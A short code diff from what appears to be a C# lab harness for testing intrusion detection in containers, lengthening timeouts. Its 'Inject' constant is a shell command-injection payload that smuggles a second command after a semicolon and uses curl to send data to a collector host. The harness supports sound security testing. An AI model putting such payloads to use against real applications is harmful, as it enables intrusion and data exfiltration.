@@ -15,9 +15,9 @@ internal sealed class TrialPerformance(ContainerEngine engine, LabRoster roster,
     private const string Intruder = "sink";
 
     // Injected into a parameter that the application gives to a shell.
-    private const string Inject = "echo @; curl -sS -f -m 60 -G \"http://$TARGET:8000/report\" --data-urlencode name@-";
+    private const string Inject = "echo @; curl -sS -f -m 150 -G \"http://$TARGET:8000/report\" --data-urlencode name@-";
 
-    private static readonly TimeSpan s_stepWithin = TimeSpan.FromSeconds(60);
+    private static readonly TimeSpan s_stepWithin = TimeSpan.FromMinutes(3); // a step of seconds takes over a minute where everything shares two busy cores
     private static readonly TimeSpan s_look = TimeSpan.FromMilliseconds(100);
 
     /// <summary>Time after the first alert in which the incident may still tell more.</summary>
